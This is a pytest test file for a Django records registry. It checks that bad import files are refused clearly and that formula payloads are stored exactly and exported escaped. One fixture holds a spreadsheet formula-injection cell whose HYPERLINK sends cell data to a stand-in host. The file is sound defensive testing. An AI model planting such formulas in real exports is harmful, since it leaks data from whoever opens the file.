"""Bad files, through the admin's import (preview and confirmation) and ``manage.py import_records``.

Every bad file gets a clear error (what is wrong, and the row, line or column where it applies) and
writes nothing: the record counts and the pghistory event counts stay the same. Formula payloads in
text cells are the exception: they are text, imported exactly, and exported escaped.
"""

import csv
import io
import os
import tempfile
import zipfile

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import override_settings
from import_export.tmp_storages import TempFolderStorage

from deployments.models import CameraCount, Deployment, Place
from registry.curation.roles import ensure_roles
from registry.imports.admin import kept_file_name
from registry.imports.csv_safety import escape_formula
from registry.imports.files import CheckedCSV
from registry.imports.resources import export_bytes, resource_for
from tests.formula_payloads import FORMULA_PAYLOADS
from tests.test_import_export import (
    admin_url,
    as_drafts,
    camera_count_rows,
    confirm,
    csv_bytes,
    csv_rows,
    export_form_data,
    make_user,
    snapshot,
    upload,
)
from vendors.models import Designation, Vendor

CSV, XLSX = 0, 1  # the admin's format choices
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
)
RANDOM = bytes((i * 7919 + 13) % 256 for i in range(4096))  # fixed "random" bytes, invalid UTF-8
PLACE_HEADER = ["slug", "name", "kind", "country"]


@pytest.fixture
def curator_client(client, db):
    client.force_login(make_user("curator", groups=[ensure_roles()[0]]))
    return client


def place_rows(n: int = 3) -> list[list[str]]:
    return [PLACE_HEADER] + [[f"town-{i}", f"Town {i}", "city", "RS"] for i in range(n)]


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "not a workbook")
    return out.getvalue()


def xlsx_bytes(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


GOOD = csv_bytes(place_rows())
# (id, file name, admin format, bytes, what the error says)
BAD_FILES = [
    (
        "cut-mid-row",
        "places.csv",
        CSV,
        GOOD + b"town-9,Town 9",
        "Row 4 (line 5) has 2 cell(s) where the header has 4 columns: the row is cut short",
    ),
    (
        "cut-mid-quoted-field",
        "places.csv",
        CSV,
        GOOD + b'town-9,"Town 9, in the',
        "Row 4 (line 5): the file ends inside a quoted cell (a quote is never closed): the file is cut short",
    ),
    (
        "a-cell-too-many",
        "places.csv",
        CSV,
        GOOD + b"town-9,Town 9,city,RS,extra\r\n",
        "Row 4 (line 5) has 5 cells where the header has 4 columns",
    ),
    (
        "latin-1",
        "places.csv",
        CSV,
        csv_bytes(place_rows(2) + [["sao-paulo", "São Paulo", "city", "BR"]]).replace(
            "São".encode(), "São".encode("latin-1")
        ),
        "Line 4: byte 0xE3 is not UTF-8 text",
    ),
    (
        "utf-16-with-bom",
        "places.csv",
        CSV,
        GOOD.decode().encode("utf-16"),
        "The file is in UTF-16, not UTF-8",
    ),
    (
        "utf-16-without-bom",
        "places.csv",
        CSV,
        GOOD.decode().encode("utf-16-le"),
        "Line 1: a NUL character: this is a binary file or UTF-16 text",
    ),
    ("random-bytes", "places.csv", CSV, RANDOM, "is not UTF-8 text"),
    ("png-as-csv", "places.csv", CSV, PNG, "This is a PNG image, not a CSV text file"),
    ("zip-renamed-csv", "places.csv", CSV, zip_bytes(), "This is a ZIP archive"),
    ("xlsx-that-is-not-a-zip", "places.xlsx", XLSX, GOOD, "This is not an XLSX workbook"),
    ("zip-that-is-not-a-workbook", "places.xlsx", XLSX, zip_bytes(), "This XLSX workbook cannot be read"),
    (
        "xlsx-formula-cell",
        "places.xlsx",
        XLSX,
        xlsx_bytes(
            place_rows(1) + [["town-9", '=HYPERLINK("http://x.example/?"&A2,"Town 9")', "city", "RS"]]
        ),
        "Cell B3: a formula (=HYPERLINK(",
    ),
    ("xlsx-empty-sheet", "places.xlsx", XLSX, xlsx_bytes([]), "The workbook's first sheet is empty"),
    ("empty", "places.csv", CSV, b"", "file is empty"),
    (
        "header-twice",
        "places.csv",
        CSV,
        b"slug,name,name,country\r\ntown-1,A,B,RS\r\n",
        "The header row names the column 'name' twice",
    ),
]
# Files that read as a table but whose rows are refused: (id, model, rows, row, column, message).
BAD_ROWS = [
    (
        "duplicate-slug",
        Place,
        place_rows(3) + [["town-1", "Town 1 again", "city", "RS"]],
        4,
        "slug",
        "row 2 of this file names the same record (slug 'town-1'): one row per record.",
    ),
    (
        "unknown-country",
        Place,
        place_rows(3) + [["atlantis", "Atlantis", "city", "XX"]],
        4,
        "country",
        "No country with code 'XX' (import it first, or check the spelling).",
    ),
]


def duplicate_public_id_rows() -> list[list[str]]:
    rows = camera_count_rows(3)
    rows[1][0] = rows[3][0] = "9a5f2cde-1111-4c4c-8d8d-000000000001"
    rows[3][0] = rows[3][0].upper()  # the same UUID, spelt differently
    return rows


def unknown_vendor_rows() -> list[list[str]]:
    header = ["vendor", "list_name", "designated_on", "source", "confidence"]
    return [header, ["huawei", "ofac-sdn", "2021", "us-bis-entity-list", "reported"]] + [
        ["no-such-vendor", "us-entity-list", "2019", "us-bis-entity-list", "confirmed"]
    ]


BAD_ROWS += [
    (
        "duplicate-public-id",
        CameraCount,
        duplicate_public_id_rows(),
        3,
        "public_id",
        "row 1 of this file names the same record",
    ),
    (
        "unknown-vendor",
        Designation,
        unknown_vendor_rows(),
        2,
        "vendor",
        "No vendor with slug 'no-such-vendor'",
    ),
]


# --- Files that are not well-formed tables ----------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "file_name", "file_format", "data", "message"), BAD_FILES, ids=[c[0] for c in BAD_FILES]
)
def test_admin_preview_refuses_a_bad_file_clearly(
    seed, curator_client, name, file_name, file_format, data, message
):
    before = snapshot()

    response = upload(curator_client, Place, file_name, data, file_format)

    assert response.status_code == 200
    assert message in response.context["form"].errors["import_file"][0]
    assert message.replace("'", "&#x27;") in response.content.decode()
    assert "confirm_form" not in response.context
    assert snapshot() == before


@pytest.mark.parametrize(
    ("name", "file_name", "file_format", "data", "message"), BAD_FILES, ids=[c[0] for c in BAD_FILES]
)
def test_admin_confirmation_refuses_a_bad_file_clearly(
    seed, curator_client, name, file_name, file_format, data, message
):
    """The kept file is read again at the confirmation: it may have been replaced since the preview."""
    preview = upload(curator_client, Place, "places.csv", GOOD, CSV)
    form = dict(preview.context["confirm_form"].initial, format=str(file_format))
    kept_path = os.path.join(
        tempfile.gettempdir(), kept_file_name(preview.wsgi_request, form["import_file_name"])
    )
    with open(kept_path, "wb") as kept:
        kept.write(data)
    before = snapshot()

    response = curator_client.post(admin_url(Place, "process_import"), form)

    assert response.status_code == 200
    assert not os.path.exists(kept_path)  # not kept
    (shown,) = [str(m) for m in response.context["messages"]]
    assert shown.startswith("Nothing was imported: ")
    assert message in shown
    assert snapshot() == before


def test_admin_confirmation_of_a_file_that_is_gone(seed, curator_client):
    preview = upload(curator_client, Place, "places.csv", GOOD, CSV)
    form = preview.context["confirm_form"].initial
    name = kept_file_name(preview.wsgi_request, form["import_file_name"])
    TempFolderStorage(name=name).remove()  # e.g. the temporary directory was cleaned meanwhile
    before = snapshot()

    response = curator_client.post(admin_url(Place, "process_import"), form)

    assert response.status_code == 200
    assert "the uploaded file is no longer here" in response.content.decode()
    assert snapshot() == before


@pytest.mark.parametrize(
    ("name", "file_name", "file_format", "data", "message"), BAD_FILES, ids=[c[0] for c in BAD_FILES]
)
def test_command_refuses_a_bad_file_clearly(seed, tmp_path, name, file_name, file_format, data, message):
    path = tmp_path / file_name
    path.write_bytes(data)
    before = snapshot()

    with pytest.raises(CommandError) as refused:
        call_command("import_records", "deployments.Place", str(path), verbosity=0)

    assert str(refused.value) == f"Nothing was imported: {path}: {str(refused.value).split(': ', 2)[2]}"
    assert message in str(refused.value)
    assert snapshot() == before


# --- Size -------------------------------------------------------------------------------------------

HUNDRED_MB = 100 * 1024 * 1024


def hundred_mb_file() -> bytes:
    """A header, a good row and a quoted cell that runs to the end of 100 MB (never closed)."""
    start = GOOD + b'town-9,"'
    return start + b"x" * (HUNDRED_MB - len(start))


def test_admin_refuses_a_file_over_the_limit_before_reading_it(seed, curator_client, monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("a file over the limit was parsed")

    monkeypatch.setattr(CheckedCSV, "create_dataset", never)
    before = snapshot()

    response = upload(curator_client, Place, "places.csv", hundred_mb_file(), CSV)

    assert response.status_code == 413
    assert "The file is too large to import here (100.0 MB; the limit is 20 MB)" in response.content.decode()
    assert snapshot() == before


@override_settings(REGISTRY_MAX_IMPORT_MB=0.001)
def test_the_limit_is_a_setting(seed, curator_client):
    response = upload(curator_client, Place, "places.csv", csv_bytes(place_rows(40)), CSV)
    assert response.status_code == 413
    assert "the limit is 0.001 MB" in response.content.decode()
    response = upload(curator_client, Place, "places.csv", csv_bytes(place_rows(1)), CSV)
    assert response.status_code == 200


def test_command_has_no_limit_but_refuses_a_broken_100_mb_file_clearly(seed, tmp_path):
    path = tmp_path / "places.csv"
    path.write_bytes(hundred_mb_file())
    before = snapshot()

    # The csv module's limit (131072 unless a library changed it: frictionless, in the release tests).
    limit = csv.field_size_limit()
    with pytest.raises(CommandError, match=rf"Row 4 \(line 5\): a cell is longer than {limit} characters"):
        call_command("import_records", "deployments.Place", str(path), verbosity=0)

    assert snapshot() == before


# --- Rows refused: duplicate keys, unknown foreign keys ---------------------------------------------


@pytest.mark.parametrize(
    ("name", "model", "rows", "row", "column", "message"), BAD_ROWS, ids=[c[0] for c in BAD_ROWS]
)
def test_admin_preview_refuses_bad_rows(seed, curator_client, name, model, rows, row, column, message):
    before = snapshot()

    response = upload(curator_client, model, "file.csv", csv_bytes(rows))

    assert response.status_code == 200
    (invalid,) = response.context["result"].invalid_rows
    assert invalid.number == row
    assert message in str(invalid.field_specific_errors[column])
    assert "confirm_form" not in response.context
    assert snapshot() == before


@pytest.mark.parametrize(
    ("name", "model", "rows", "row", "column", "message"), BAD_ROWS, ids=[c[0] for c in BAD_ROWS]
)
def test_admin_confirmation_refuses_bad_rows(seed, curator_client, name, model, rows, row, column, message):
    good = csv_bytes(rows[:row])  # the preview of the rows before the bad one passes
    preview = upload(curator_client, model, "file.csv", good)
    form = preview.context["confirm_form"].initial
    kept_path = os.path.join(
        tempfile.gettempdir(), kept_file_name(preview.wsgi_request, form["import_file_name"])
    )
    with open(kept_path, "wb") as kept:
        kept.write(csv_bytes(rows))
    before = snapshot()

    response = curator_client.post(admin_url(model, "process_import"), form)

    assert response.status_code == 200
    assert "Nothing was imported" in response.content.decode()
    (invalid,) = response.context["result"].invalid_rows
    assert invalid.number == row
    assert message in str(invalid.field_specific_errors[column])
    assert snapshot() == before


@pytest.mark.parametrize(
    ("name", "model", "rows", "row", "column", "message"), BAD_ROWS, ids=[c[0] for c in BAD_ROWS]
)
def test_command_refuses_bad_rows(seed, tmp_path, capsys, name, model, rows, row, column, message):
    path = tmp_path / "file.csv"
    path.write_bytes(csv_bytes(rows))
    before = snapshot()

    with pytest.raises(CommandError, match="Nothing was imported: 1 refusal"):
        call_command("import_records", model._meta.label, str(path), verbosity=0)

    assert f"row {row} (line {row + 1}), column '{column}': {message}" in capsys.readouterr().err
    assert snapshot() == before


def test_admin_preview_refuses_an_unknown_column(seed, curator_client):
    rows = [["slug", "name", "kind", "country", "sumary"], ["town-1", "Town 1", "city", "RS", "lost"]]
    before = snapshot()

    response = upload(curator_client, Place, "places.csv", csv_bytes(rows))

    assert response.status_code == 200
    assert "Unknown column(s) &#x27;sumary&#x27;" in response.content.decode()
    assert "confirm_form" not in response.context
    assert snapshot() == before


def test_an_unknown_column_is_refused_not_ignored(seed, tmp_path, capsys):
    rows = [["slug", "name", "kind", "country", "sumary"], ["town-1", "Town 1", "city", "RS", "lost"]]
    path = tmp_path / "places.csv"
    path.write_bytes(csv_bytes(rows))
    before = snapshot()

    with pytest.raises(CommandError):
        call_command("import_records", "deployments.Place", str(path), verbosity=0)

    assert (
        "file: Unknown column(s) 'sumary': the columns of place files are slug, name"
        in capsys.readouterr().err
    )
    assert snapshot() == before


# --- Formula payloads: text in, text stored exactly, escaped out --------------------------------------

FORMULAS = FORMULA_PAYLOADS
VENDOR_TEXT_COLUMNS = ("name", "legal_name", "description")


def formula_vendor_rows() -> list[list[str]]:
    header = ["slug", "name", "legal_name", "description"]
    return [header] + [[f"formula-{i}", payload, payload, payload] for i, payload in enumerate(FORMULAS)]


def assert_stored_exactly():
    for i, payload in enumerate(FORMULAS):
        vendor = Vendor.objects.get(slug=f"formula-{i}")
        assert [getattr(vendor, column) for column in VENDOR_TEXT_COLUMNS] == [payload] * 3


def assert_exported_escaped(data: bytes):
    rows = {row[0]: row for row in csv_rows(data)}
    header = csv_rows(data)[0]
    for i, payload in enumerate(FORMULAS):
        for column in VENDOR_TEXT_COLUMNS:
            assert rows[f"formula-{i}"][header.index(column)] == "'" + payload == escape_formula(payload)


def test_formula_payloads_through_the_command(seed, tmp_path):
    path = tmp_path / "vendors.csv"
    path.write_bytes(csv_bytes(formula_vendor_rows()))

    call_command("import_records", "vendors.Vendor", str(path), verbosity=0)

    assert_stored_exactly()
    call_command("export_records", "vendors.Vendor", output=str(tmp_path / "out.csv"), verbosity=0)
    assert_exported_escaped((tmp_path / "out.csv").read_bytes())
    assert_exported_escaped(export_bytes(resource_for(Vendor)()))


def test_formula_payloads_through_the_admin(seed, curator_client):
    preview = upload(curator_client, Vendor, "vendors.csv", csv_bytes(formula_vendor_rows()))
    assert preview.context["result"].totals["new"] == len(FORMULAS)

    assert confirm(curator_client, Vendor, preview).status_code == 302

    assert_stored_exactly()
    exported = curator_client.post(
        admin_url(Vendor, "export") + "?q=formula", export_form_data(resource_for(Vendor), CSV)
    )
    assert_exported_escaped(exported.content)


def test_formula_payloads_in_a_long_text_field(seed, tmp_path):
    as_drafts(Deployment.objects.all())  # published records would become proposals
    header, *records = csv_rows(export_bytes(resource_for(Deployment)()))
    for start in range(0, len(FORMULAS), len(records)):  # as many at a time as the seed has deployments
        payloads = FORMULAS[start : start + len(records)]
        for row, payload in zip(records, payloads, strict=False):
            row[header.index("summary")] = escape_formula(payload) if start % 2 else payload
            row[header.index("version")] = ""
        path = tmp_path / "deployments.csv"
        path.write_bytes(csv_bytes([header, *records[: len(payloads)]]))

        call_command("import_records", "deployments.Deployment", str(path), verbosity=0)

        summaries = dict(Deployment.objects.values_list("slug", "summary"))
        assert [summaries[row[0]] for row in records[: len(payloads)]] == payloads
